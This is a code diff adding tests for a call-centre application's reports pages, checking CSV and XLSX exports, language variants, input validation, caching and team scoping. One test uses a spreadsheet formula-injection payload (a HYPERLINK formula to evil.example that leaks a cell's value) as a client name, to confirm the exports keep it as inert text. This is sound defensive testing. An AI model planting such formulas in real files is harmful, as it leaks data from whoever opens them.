@@ -1,6 +1,9 @@
 """``/reports``: the period's figures per manager and for the company match the calls laid down,
 each figure lists exactly its calls, the tables download as CSV and XLSX with the same figures,
-a supervisor sees his team only, and a period that cannot be read is a 400 saying why.
+a supervisor sees his team only, and a period that cannot be read is a 400 saying why. Every table
+downloads in both formats and both languages; a client's name that looks like a formula stays text
+in the files; a manager's id that is no id is a 404; the page, its charts and its files share one
+computation of the period's figures, kept a minute; a supervisor's calls are read for his team.
 
 The week laid down (Moscow, November 2026; working hours 09:00-18:00, a ring under 10 s short):
 
@@ -23,17 +26,30 @@ import io
 import re
 from datetime import datetime, timedelta
 from typing import Any
+from urllib.parse import urlencode
 
 import pytest
 from openpyxl import load_workbook
+from openpyxl.workbook.child import INVALID_TITLE_REGEX
+from openpyxl.worksheet.worksheet import Worksheet
 
-from config.settings import CallbackSettings, EscalationSettings, Settings
+from config.settings import CallbackSettings, EscalationSettings, Settings, TelegramSettings
+from hub.app import create_app
+from hub.bootstrap.core import SETTINGS
+from hub.bootstrap.database import SESSIONS
+from hub.bootstrap.directory import DIRECTORY
 from hub.bootstrap.people import ESCALATION_SWEEP, SCHEDULE
+from hub.console.reports import KEPT
+from hub.domain.people import Role
+from hub.domain.report_figures import classify, lines, read_period
+from hub.domain.scope import team_of
+from hub.services.reports.period import company_rules
+from storage.uow import UnitOfWork
 from tests.support.api import Api, update
 from tests.support.clock import MOSCOW, TestClock
 from tests.support.console import Browser, with_password
-from tests.support.settings import make_settings
-from tests.support.team import CALLER, sales_team
+from tests.support.settings import ADMIN_TOKEN, HOOK_SECRET, make_settings
+from tests.support.team import CALLER, miss, sales_team
 
 CALLER2 = "+79035550101"
 STRANGER1, STRANGER2, STRANGER3 = "+79165550177", "+79165550188", "+79165550199"
@@ -338,3 +354,171 @@ async def test_charts_are_svg_files(api: Api, clock: TestClock) -> None:
         assert body.startswith("<svg") and 'xmlns="http://www.w3.org/2000/svg"' in body
     async with browser.client.get(f"/reports/chart/nonsense.svg?{NOVEMBER}") as response:
         assert response.status == 404
+
+
+TABLES = ("calls", "callbacks", "unregistered", "kpi", "forgotten")
+
+
+async def _download(browser: Browser, path: str) -> tuple[list[list[Any]], str]:
+    """A file's rows (an XLSX's values, a CSV's strings) and, for a workbook, its sheet's name."""
+    async with browser.client.get(path) as response:
+        assert response.status == 200, (path, await response.text())
+        assert "attachment" in response.headers["Content-Disposition"]
+        body = await response.read()
+    if path.split("?")[0].endswith(".csv"):
+        return list(csv.reader(io.StringIO(body.decode("utf-8-sig")))), ""
+    sheet = load_workbook(io.BytesIO(body)).active
+    assert isinstance(sheet, Worksheet)
+    return [list(row) for row in sheet.iter_rows(values_only=True)], sheet.title
+
+
+async def test_every_table_downloads_as_csv_and_xlsx(api: Api, clock: TestClock) -> None:
+    people = await seed(api, clock)
+    browser = await logged_in(api, people["director"], "director")
+    lists = [
+        f"list.{{}}?{NOVEMBER}&manager={who}&figure={figure}"
+        for who, figure in ((people["ivan"], "missed"), ("all", "escalated"), ("none", "missed"))
+    ]
+    for path in [f"{name}.{{}}?{NOVEMBER}" for name in TABLES] + lists:
+        from_csv, _ = await _download(browser, "/reports/export/" + path.format("csv"))
+        from_xlsx, title = await _download(browser, "/reports/export/" + path.format("xlsx"))
+        assert from_csv[0] == from_xlsx[0] and len(from_csv) == len(from_xlsx), path
+        assert title and len(title) <= 31 and not INVALID_TITLE_REGEX.search(title), title
+    missed, title = await _download(
+        browser, f"/reports/export/list.xlsx?{NOVEMBER}&manager={people['ivan']}&figure=missed"
+    )
+    assert title == "Пропущено — Иван"
+    assert [row[2] for row in missed[1:]] == [CALLER, STRANGER1, STRANGER3]
+    nobodys, title = await _download(
+        browser, f"/reports/export/list.xlsx?{NOVEMBER}&manager=none&figure=missed"
+    )
+    assert title == "Пропущено — никто в отдельности"
+    assert [row[2] for row in nobodys[1:]] == [STRANGER2]
+
+
+async def test_files_in_english_too(aiohttp_client: Any, db_url: str, clock: TestClock) -> None:
+    settings = make_settings(db_url, telegram=TelegramSettings(language="en"))
+    api = Api(await aiohttp_client(create_app(settings, clock=clock)), ADMIN_TOKEN, HOOK_SECRET)
+    team = await sales_team(api)
+    await miss(api, "m1", CALLER)
+    browser = await logged_in(api, team["director"]["id"], "director")
+    _, title = await _download(browser, f"/reports/export/kpi.xlsx?{NOVEMBER}")
+    assert title == "KPI — contacts refined"
+    query = f"{NOVEMBER}&manager=all&figure=missed"
+    rows, title = await _download(browser, f"/reports/export/list.xlsx?{query}")
+    assert title == "Missed — The company"
+    assert rows[0][:3] == ["Time", "Direction", "Number"] and rows[1][2] == CALLER
+    rows, _ = await _download(browser, f"/reports/export/list.csv?{query}")
+    assert rows[1][2] == CALLER
+
+
+EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Открыть")'
+
+
+async def test_a_clients_name_stays_text_in_the_files(api: Api, clock: TestClock) -> None:
+    team = await sales_team(api, ((EVIL, CALLER),))
+    await _call(api, clock, "a1", CALLER, "101", at(2, 11), rings=5, answered=True)
+    await _call(api, clock, "m1", CALLER, "101", at(25, 11), rings=30)
+    # Three months without a word since the 2nd: the client is forgotten.
+    clock.set(at(2, 12) + api.app[SETTINGS].clients.forgotten_after)
+    browser = await logged_in(api, team["director"]["id"], "director")
+    query = f"{NOVEMBER}&manager=all&figure=missed"
+    listed, _ = await _download(browser, f"/reports/export/list.csv?{query}")
+    assert [row[2:4] for row in listed[1:]] == [[CALLER, "'" + EVIL]]
+    forgotten, _ = await _download(browser, f"/reports/export/forgotten.csv?{NOVEMBER}")
+    assert [row[1] for row in forgotten[1:]] == ["'" + EVIL]
+    for path in (f"list.xlsx?{query}", f"forgotten.xlsx?{NOVEMBER}"):
+        async with browser.client.get(f"/reports/export/{path}") as response:
+            sheet = load_workbook(io.BytesIO(await response.read())).active
+        assert isinstance(sheet, Worksheet)
+        cells = [c for row in sheet.iter_rows(min_row=2) for c in row if c.value == EVIL]
+        assert [c.data_type for c in cells] == ["s"], path
+        numbers = [c for row in sheet.iter_rows(min_row=2) for c in row if c.value == CALLER]
+        assert [c.data_type for c in numbers] == (["s"] if path.startswith("list") else [])
+
+
+async def test_an_id_that_is_no_id_is_a_404_and_a_date_out_of_range_a_400(
+    api: Api, clock: TestClock
+) -> None:
+    people = await seed(api, clock)
+    browser = await logged_in(api, people["director"], "director")
+    for manager in ("²", "①", "2147483648", "99999999999", "-1", "1e3", " 1"):
+        for path in ("/reports/calls", "/reports/export/list.csv"):
+            query = urlencode({"from": "2026-11-01", "manager": manager, "figure": "missed"})
+            found = await browser.get(f"{path}?{query}")
+            assert found.status == 404, (path, manager, found.text)
+    for first, last, says in (
+        ("9999-12-01", "9999-12-31", "Дата «с» вне допустимых лет: 9999-12-01"),
+        ("0001-01-01", "0001-01-31", "Дата «с» вне допустимых лет: 0001-01-01"),
+        ("2026-11-01", "9999-12-31", "Дата «по» вне допустимых лет: 9999-12-31"),
+    ):
+        query = urlencode({"from": first, "until": last})
+        for path in ("/reports", "/reports/chart/per-day.svg", "/reports/export/calls.xlsx"):
+            refused = await browser.get(f"{path}?{query}")
+            assert (refused.status, says in refused.text) == (400, True), (path, refused.text)
+        listed = await browser.get(f"/reports/calls?{query}&manager=all&figure=missed")
+        assert listed.status == 400 and "от 2000 до 2999" in listed.text
+
+
+def _figure(text: str) -> list[str]:
+    return _row(text, "calls", "Иван")[1:4]
+
+
+async def test_the_page_its_charts_and_files_share_one_computation(
+    api: Api, clock: TestClock
+) -> None:
+    people = await seed(api, clock)
+    browser = await logged_in(api, people["director"], "director")
+    viewed = clock.now()
+    page = await browser.get(f"/reports?{NOVEMBER}")
+    assert _figure(page.text) == ["4", "2", "3"]
+    for chart in ("per-day", "waits", "per-manager"):
+        assert (await browser.get(f"/reports/chart/{chart}.svg?{NOVEMBER}")).status == 200
+    assert (await browser.get(f"/reports/export/calls.csv?{NOVEMBER}")).status == 200
+    assert len(api.app[KEPT]) == 1
+    # A call missed just after: the page, its charts and files show the figures as computed.
+    await _call(api, clock, "late", STRANGER3, "101", at(25, 9), rings=30)
+    clock.set(viewed + timedelta(seconds=30))
+    assert _figure((await browser.get(f"/reports?{NOVEMBER}")).text) == ["4", "2", "3"]
+    rows, _ = await _download(browser, f"/reports/export/calls.csv?{NOVEMBER}")
+    assert next(row for row in rows if row[0] == "Иван")[1:4] == ["4", "2", "3"]
+    # A minute later they are computed again.
+    clock.set(viewed + timedelta(seconds=61))
+    assert _figure((await browser.get(f"/reports?{NOVEMBER}")).text) == ["5", "2", "4"]
+    rows, _ = await _download(browser, f"/reports/export/calls.csv?{NOVEMBER}")
+    assert next(row for row in rows if row[0] == "Иван")[1:4] == ["5", "2", "4"]
+    # Another scope is another computation, and the director's stays as it was.
+    olga = await logged_in(api, people["olga"], "olga")
+    assert _figure((await olga.get(f"/reports?{NOVEMBER}")).text) == ["5", "2", "4"]
+    assert len(api.app[KEPT]) == 2
+
+
+async def test_a_supervisors_calls_are_read_for_his_team(api: Api, clock: TestClock) -> None:
+    people = await seed(api, clock)
+    period = read_period("2026-11-01", "2026-11-30", at(25, 12).date(), MOSCOW)
+    rules = company_rules(api.app[SETTINGS], api.app[DIRECTORY].snapshot.calendar)
+    staff = [people[name] for name in ("olga", "ivan", "petr")]
+    async with UnitOfWork(api.app[SESSIONS], read_only=True) as uow:
+        everything = classify(
+            await uow.reports.period_calls(period.start, period.end),
+            await uow.reports.period_cases(period.start, period.end),
+            rules,
+        )
+        for scope in (
+            team_of(Role.SUPERVISOR, people["olga"], [people["ivan"]]),
+            team_of(Role.MANAGER, people["ivan"], []),
+            team_of(Role.MANAGER, people["petr"], []),
+        ):
+            nobody = scope.owns(None)
+            read = classify(
+                await uow.reports.period_calls(period.start, period.end, scope.team, nobody=nobody),
+                await uow.reports.period_cases(period.start, period.end, scope.team, nobody=nobody),
+                rules,
+            )
+            # Fewer rows read, the same figures.
+            assert len(read.calls) < len(everything.calls)
+            assert lines(read, staff, scope.owns) == lines(everything, staff, scope.owns)
+            # Пётр's answered call back to his client; the IVR abandon that is nobody's.
+            started = {call.started_at for call, _, _ in read.calls}
+            assert (at(25, 10) in started) == (people["petr"] in scope.team), scope
+            assert (at(23, 12) in started) == nobody, scope
